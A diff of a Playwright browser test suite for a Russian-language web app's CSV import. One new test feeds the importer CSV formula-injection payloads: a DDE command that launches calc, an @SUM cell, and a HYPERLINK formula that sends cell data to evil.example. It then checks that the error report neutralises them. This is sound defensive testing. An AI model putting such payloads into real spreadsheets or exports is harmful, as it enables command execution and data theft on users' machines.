@@ -2,6 +2,7 @@ import { readFile } from 'node:fs/promises';
 import iconv from 'iconv-lite';
 import type { Page } from 'playwright-core';
 import { describe, expect, inject, it } from 'vitest';
+import { CsvTokenizer } from '../src/modules/imports/csv/tokenizer.js';
 import { expectNoPageErrors, openTab, screenshot, signIn } from './support/browser.js';
 import { addMember, newShop, type Shop, type TestServer } from './support/server.js';
 import { browserSuite } from './support/suite.js';
@@ -19,6 +20,13 @@ const customersCsv = [
   '+7 950 123-45-67;Сергей;Павлов;pavlov.s@example.ru;Новосибирск;',
   '89051234567;Иван;Новиков;;Самара;21.09.1979',
 ].join('\r\n');
+
+// What a spreadsheet sees in a downloaded report: its rows of cells (the BOM dropped).
+function reportCells(bytes: Buffer): string[][] {
+  const tokenizer = new CsvTokenizer(';');
+  const tokens = [...tokenizer.push(bytes.toString('utf8').replace(/^\uFEFF/, '')), ...tokenizer.end()];
+  return tokens.flatMap((t) => (t.ok ? [t.fields] : []));
+}
 
 // Text as shown, cells apart and spaces normalised (Intl puts no-break spaces in numbers); labels
 // styled in capitals come out in capitals.
@@ -120,9 +128,14 @@ describe.skipIf(!chromiumPath)('web app: imports', () => {
 
     const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Скачать отчёт об ошибках (CSV)' }).click()]);
     expect(download.suggestedFilename()).toBe('Клиенты из 1С-errors.csv');
-    const report = (await readFile(await download.path())).toString('utf8').replace(/^\uFEFF/, '').trim().split('\r\n');
-    expect(report[0]).toBe('row;column;reason;raw');
-    expect(report.slice(1).map((line) => line.split(';').slice(0, 2).join(';'))).toEqual(['4;Телефон', '5;Дата рождения']);
+    // The report is in the interface's language, like the table above.
+    const report = reportCells(await readFile(await download.path()));
+    expect(report[0]).toEqual(['Строка', 'Столбец', 'Причина', 'Строка в файле']);
+    expect(report.slice(1).map((cells) => cells.slice(0, 3))).toEqual([
+      ['4', 'Телефон', expect.stringMatching(/^«12345» — не/)],
+      ['5', 'Дата рождения', expect.stringMatching(/31\.02\.1988/)],
+    ]);
+    expect(report.slice(1).map((cells) => cells[2]).join(' ')).not.toMatch(/[a-z]{4}/);
 
     // The list of imports shows this one as done, with its counts.
     await page.getByRole('link', { name: 'Все импорты' }).click();
@@ -176,6 +189,67 @@ describe.skipIf(!chromiumPath)('web app: imports', () => {
     await page.getByRole('link', { name: 'Клиенты.csv' }).click();
     await page.getByText('Файл загружен, но импорт не запущен').waitFor();
     expect(await page.getByRole('button', { name: 'Запустить с распознанными столбцами' }).count()).toBe(0);
+    expectNoPageErrors(tab);
+    await tab.context.close();
+  });
+
+  it('downloads a report of hostile cells that opens as text, in Russian', async () => {
+    const shop = await newShop(suite.server, 'Формулы');
+    const hostile = [
+      'Телефон;Имя;Почта',
+      "=cmd|' /C calc'!A0;Анна;anna@example.ru",
+      '@SUM(1+1);Борис;boris@example.ru',
+      '"=HYPERLINK(""http://evil.example/?d=""&A1;""Жми"")";Вера;vera@example.ru',
+      '+7 912 345-67-89;Глеб;gleb@example.ru',
+    ].join('\r\n');
+    const tab = await openTab(suite.browser, suite.server.url);
+    const { page } = tab;
+    await signIn(page, shop.owner);
+    await page.goto(`/w/${shop.id}/imports`);
+    await page.locator('input[type=file]').setInputFiles({ name: 'formulas.csv', mimeType: 'text/csv', buffer: Buffer.from(hostile) });
+    await page.getByRole('heading', { name: 'Проверьте столбцы' }).waitFor();
+    await page.getByRole('button', { name: 'Запустить импорт' }).click();
+    await page.getByRole('heading', { name: 'Импорт завершён' }).waitFor({ timeout: 20_000 });
+    // On screen the cells are shown as they were in the file.
+    await expect.poll(() => rowTexts(page, 'section[aria-label="Незагруженные строки"]')).toEqual([
+      expect.stringContaining("=cmd|' /C calc'!A0;Анна"),
+      expect.stringContaining('@SUM(1+1);Борис'),
+      expect.stringContaining('"=HYPERLINK('),
+    ]);
+    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Скачать отчёт об ошибках (CSV)' }).click()]);
+    const report = reportCells(await readFile(await download.path()));
+    expect(report).toHaveLength(4);
+    for (const cell of report.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r\n]/);
+    expect(report.slice(1).map((cells) => [cells[2], cells[3]])).toEqual([
+      ["«=cmd|' /C calc'!A0» — не номер телефона", "'=cmd|' /C calc'!A0;Анна;anna@example.ru"],
+      ['«@SUM(1+1)» — не номер телефона', "'@SUM(1+1);Борис;boris@example.ru"],
+      [expect.stringMatching(/^«=HYPERLINK\(.*» — не номер телефона$/), '"=HYPERLINK(""http://evil.example/?d=""&A1;""Жми"")";Вера;vera@example.ru'],
+    ]);
+    expectNoPageErrors(tab);
+    await tab.context.close();
+  });
+
+  it('cancels an upload that was not started, deleting it', async () => {
+    const shop = await newShop(suite.server, 'Отмена');
+    const tab = await openTab(suite.browser, suite.server.url);
+    const { page } = tab;
+    await signIn(page, shop.owner);
+    await page.goto(`/w/${shop.id}/imports`);
+    await page.locator('input[type=file]').setInputFiles({ name: 'не тот файл.csv', mimeType: 'text/csv', buffer: Buffer.from('Телефон;Имя\n+79001112233;Анна\n') });
+    await page.getByRole('heading', { name: 'Проверьте столбцы' }).waitFor();
+    await screenshot(page, 'imports-preview-cancel');
+    await page.getByRole('button', { name: 'Отменить импорт' }).click();
+    await page.waitForURL(new RegExp(`/w/${shop.id}/imports$`));
+    await page.getByText('Импортов пока не было').waitFor();
+
+    // A pending import opened later can be cancelled too.
+    const id = await uploadThroughApi(suite.server, shop, 'позже.csv', 'Телефон;Имя\n+79001112233;Анна\n');
+    await page.goto(`/w/${shop.id}/imports/${id}`);
+    await page.getByText('Файл загружен, но импорт не запущен').waitFor();
+    await page.getByRole('button', { name: 'Отменить импорт' }).click();
+    await page.getByText('Импортов пока не было').waitFor();
+    const res = await fetch(`${suite.server.url}/api/v1/imports/${id}`, { headers: { authorization: `Bearer ${shop.secretKey}` } });
+    expect(res.status).toBe(404);
     expectNoPageErrors(tab);
     await tab.context.close();
   });
